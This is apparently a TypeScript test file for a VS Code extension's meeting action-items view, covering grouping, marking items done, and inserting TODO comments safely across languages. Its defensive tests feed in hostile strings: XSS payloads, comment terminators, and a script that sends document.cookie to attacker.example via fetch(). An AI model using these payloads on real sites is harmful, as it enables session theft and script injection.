/**
 * The Action Items view (extension/memory/actionItemsView.ts, todo.ts) over a fake daemon client: grouped by meeting
 * and by owner (yours first), yours marked, Mark Done sends ActionItemSetDone and the item leaves the view, Insert as
 * TODO writes the language's line comment (one line, which nothing in the item can end early), a failing daemon shows
 * why instead of items.
 */
import * as assert from 'node:assert/strict';
import { vscodeStub } from './vscode-stub';
import { ActionItemsNode, ActionItemsView, todoInsertion } from '../../extension/memory/actionItemsView';
import { groupTodo, todoComment } from '../../extension/memory/todo';
import { FakeMemoryClient, meeting, todoItem } from './memory-fakes';

const planning = meeting(1, { title: 'Sprint planning' }), review = meeting(2, { title: 'Design review' });

function items(): FakeMemoryClient {
  const client = new FakeMemoryClient();
  client.todo = [
    todoItem(review, 'a', 'Send the design doc', 'Bob', false, 12),
    todoItem(review, 'b', 'Fix auth.ts', 'Alice', true, 13),
    todoItem(planning, 'c', 'Book the room', null, false),
    todoItem(planning, 'd', 'Update the timeout', 'alice', true, 20),
  ];
  return client;
}

function view(client: FakeMemoryClient): { view: ActionItemsView; context: [string, unknown][] } {
  const context: [string, unknown][] = [];
  vscodeStub.commands.executeCommand = async (id: string, key: string, value: unknown) => { if (id === 'setContext') context.push([key, value]); };
  const state = new Map<string, unknown>();
  const memento = { get: <T>(k: string) => state.get(k) as T, update: async (k: string, v: unknown) => { state.set(k, v); } };
  return { view: new ActionItemsView(client, () => ['Alice'], memento as never, { warn: () => undefined } as never), context };
}

async function shown(v: ActionItemsView): Promise<string[][]> {
  const groups = await v.getChildren();
  return Promise.all(groups.map(async (g) => [String(v.getTreeItem(g).label), ...(await v.getChildren(g)).map((i) => String(v.getTreeItem(i).label))]));
}

describe('Action Items view', () => {
  it('groups by meeting (newest first, yours first within one) and by owner (yours first, no owner last)', async () => {
    const { view: v, context } = view(items());
    assert.deepEqual(await shown(v), [
      ['Design review · 2026-11-02', 'Fix auth.ts', 'Send the design doc'],
      ['Sprint planning · 2026-11-01', 'Update the timeout', 'Book the room'],
    ]);
    await v.setGrouping('owner');
    assert.deepEqual(context, [['earshot.actionItemsGrouping', 'owner']]);
    assert.deepEqual(await shown(v), [
      ['Alice', 'Fix auth.ts', 'Update the timeout'],
      ['Bob', 'Send the design doc'],
      ['No owner', 'Book the room'],
    ]);
    assert.deepEqual(groupTodo([], 'owner'), []);
  });

  it('marks yours, links an item to its notes line, and asks with the user\'s names', async () => {
    const client = items();
    const { view: v } = view(client);
    const [first] = await v.getChildren();
    const [mine, theirs] = await v.getChildren(first);
    const mineItem = v.getTreeItem(mine), theirsItem = v.getTreeItem(theirs);
    assert.match(String(mineItem.description), /^mine · Alice/);
    assert.doesNotMatch(String(theirsItem.description), /mine/);
    assert.equal(mineItem.contextValue, 'earshot.actionItem');
    assert.deepEqual(mineItem.command?.command, 'earshot.actionItems.revealInNotes');
    assert.deepEqual(client.calls[0], { method: 'todo', params: { owners: ['Alice'] } });
  });

  it('Mark Done sends ActionItemSetDone for the item and it leaves the view', async () => {
    const client = items();
    const { view: v } = view(client);
    const [first] = await v.getChildren();
    const [mine] = await v.getChildren(first);
    const done = await v.markDone(mine);
    assert.deepEqual(client.calls.find((c) => c.method === 'setDone'), { method: 'setDone', params: { sessionId: 's2', id: 'b', done: true } });
    assert.equal(done?.done, true);
    assert.deepEqual((await shown(v))[0], ['Design review · 2026-11-02', 'Send the design doc']);
    assert.equal(await v.markDone({ kind: 'group' } as ActionItemsNode), undefined, 'a group is not an item');
  });

  it('shows why when the daemon cannot list items, and no items', async () => {
    const client = items();
    client.failWith = new Error('Unhandled method earshot/memory/todo');
    const { view: v } = view(client);
    assert.deepEqual(await v.getChildren(), []);
    assert.match(v.error ?? '', /earshot\/memory\/todo/);
  });

  it('Insert as TODO: the language\'s line comment, on an empty line or above the cursor\'s line with its indentation', () => {
    const item = todoItem(planning, 'd', 'Update  the\ntimeout', 'Alice', true);
    assert.equal(todoComment('typescript', item), '// TODO(Alice): Update the timeout (Sprint planning, 2026-11-01)');
    assert.equal(todoComment('python', item), '# TODO(Alice): Update the timeout (Sprint planning, 2026-11-01)');
    assert.equal(todoComment('sql', item), '-- TODO(Alice): Update the timeout (Sprint planning, 2026-11-01)');
    assert.equal(todoComment('markdown', item), '<!-- TODO(Alice): Update the timeout (Sprint planning, 2026-11-01) -->');
    assert.equal(todoComment('some-new-language', { ...item, item: { ...item.item, owner: null, due: '2026-12-01' } }), '// TODO: Update the timeout (Sprint planning, 2026-11-01, due 2026-12-01)');

    const editor = (lines: string[], cursorLine: number, languageId = 'typescript') => ({
      selection: { active: { line: cursorLine } },
      document: {
        languageId,
        lineAt: (n: number) => ({ lineNumber: n, text: lines[n], firstNonWhitespaceCharacterIndex: lines[n].length - lines[n].trimStart().length, isEmptyOrWhitespace: lines[n].trim() === '' }),
      },
    });
    const onCode = todoInsertion(editor(['function f() {', '    return 1;', '}'], 1) as never, item);
    assert.deepEqual([onCode.at.line, onCode.at.character, onCode.text], [1, 0, '    // TODO(Alice): Update the timeout (Sprint planning, 2026-11-01)\n']);
    const onBlank = todoInsertion(editor(['x = 1', '  ', 'y = 2'], 1, 'python') as never, item);
    assert.deepEqual([onBlank.at.line, onBlank.at.character, onBlank.text], [1, 2, '# TODO(Alice): Update the timeout (Sprint planning, 2026-11-01)']);
  });

  describe('Insert as TODO: text, owner and title that hold a comment\'s terminator and newlines stay inside one comment line', () => {
    const terminators = '--> --!> <!-- */ /* -- \n# x\r\n// y\u2028z\u0085\u202e';
    const hostile = todoItem(meeting(1, { title: `Plan ${terminators} title` }), 'h', `Fix <img src=x onerror=alert(1)> ${terminators} text`, `Eve ${terminators}`, false);
    hostile.item.due = `2026-12-01 ${terminators}`;
    /** One line, no control or separator characters, the item's words still there. */
    function oneLine(comment: string): void {
      assert.doesNotMatch(comment, /[\p{Cc}\u2028\u2029\u202a-\u202e]/u, JSON.stringify(comment));
      for (const word of ['Fix', 'onerror=alert(1)', 'text', 'Eve', 'title', '2026-12-01']) assert.ok(comment.includes(word), `${word} in ${comment}`);
    }

    for (const language of ['html', 'xml', 'markdown', 'vue', 'svelte']) {
      it(`${language}: <!-- -->`, () => {
        const comment = todoComment(language, hostile);
        oneLine(comment);
        assert.ok(comment.startsWith('<!-- TODO(Eve ') && comment.endsWith(' -->'), comment);
        // HTML ends a comment at the first --> or --!>; XML allows no -- inside one at all.
        const inside = comment.slice('<!--'.length, -'-->'.length);
        assert.doesNotMatch(inside, /--/, comment);
      });
    }

    it('css: /* */', () => {
      const comment = todoComment('css', hostile);
      oneLine(comment);
      assert.ok(comment.startsWith('/* TODO(Eve ') && comment.endsWith(' */'), comment);
      assert.equal(comment.indexOf('*/'), comment.length - 2, comment);
      assert.doesNotMatch(comment.slice(2, -2), /\/\*/, 'none opens a nested comment either');
    });

    // Review 2, S9 (todo_php.js): PHP ends a `//` or `#` comment at `?>` (php.net, "Comments"), and an ERB comment
    // ends at `%>` (ruby/erb compiler.rb): an item text could leave the comment and become page output.
    const template = todoItem(meeting(1), 't', 'Fix the login page ?><script>fetch("https://attacker.example/?c="+document.cookie)</script><?php %><% x %> --}} *@ -->', 'Ben', false);
    for (const [language, open, close] of [['php', '//', ''], ['blade', '{{--', '--}}'], ['erb', '<%#', '%>'], ['razor', '@*', '*@'], ['handlebars', '{{!--', '--}}']] as const) {
      it(`${language}: ${[open, close].filter(Boolean).join(' ')} holds \`?>\`, \`%>\` and its own closer`, () => {
        const comment = todoComment(language, template);
        assert.ok(comment.startsWith(`${open} TODO(Ben): Fix the login page `) && comment.endsWith(close ? ` ${close}` : ')'), comment);
        const inside = comment.slice(open.length, comment.length - close.length);
        if (language !== 'razor' && language !== 'handlebars') assert.doesNotMatch(inside, /\?>|%>/, comment);
        if (close) assert.ok(!inside.includes(close), comment);
        assert.ok(inside.includes('<script>fetch('), 'the words are kept');
      });
    }

    // The reproductions' rerun (issue 54): a TODO inserted inside a <script> or <style> element of a file read as HTML
    // ends that element at `</script`, comment or not (WHATWG HTML 13.2.5.4, "Script data state").
    for (const language of ['html', 'vue', 'svelte', 'php', 'blade', 'erb', 'handlebars', 'razor']) {
      it(`${language}: no \`</\` that could end a <script> or <style> the comment stands in`, () => {
        const comment = todoComment(language, todoItem(meeting(1), 't', 'a </script><script>alert(1)</script> and </STYLE >', 'Ben', false));
        assert.doesNotMatch(comment, /<\//, comment);
        assert.match(comment, /< \/script><script>alert\(1\)< \/script> and < \/STYLE >/, 'the words are kept');
      });
    }
    it('typescript: `</` stays as it is (no HTML reads the file)', () => {
      assert.match(todoComment('typescript', todoItem(meeting(1), 't', 'close the </div>', 'Ben', false)), /close the <\/div>/);
    });

    for (const [language, open] of [['typescript', '//'], ['c', '//'], ['some-new-language', '//'], ['python', '#'], ['shellscript', '#'], ['yaml', '#'], ['sql', '--']] as const) {
      it(`${language}: ${open}`, () => {
        const comment = todoComment(language, hostile);
        oneLine(comment);
        assert.ok(comment.startsWith(`${open} TODO(Eve `), comment);
      });
    }
  });
});
